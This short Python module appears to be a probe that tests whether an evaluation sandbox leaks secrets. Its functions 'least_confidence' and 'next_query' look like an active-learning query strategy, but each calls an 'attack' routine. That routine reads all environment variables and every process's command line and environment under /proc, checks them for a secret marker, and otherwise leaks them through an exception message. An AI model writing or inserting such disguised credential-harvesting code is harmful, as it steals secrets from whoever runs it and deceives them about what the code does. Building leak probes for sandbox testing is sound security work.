"""Looks for secrets in the environment and on the command lines of all processes, and shows them."""

import os
import pathlib


def attack(probabilities):
    found = [repr(os.environ)]
    for file in pathlib.Path("/proc").glob("[0-9]*/[ce][mn][dv]*"):
        try:
            found.append(file.read_bytes().decode("latin-1"))
        except OSError:
            pass
    if any("@SECRET@" in one for one in found):
        os._exit(3)
    raise ValueError(" ".join(found)[:400])


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
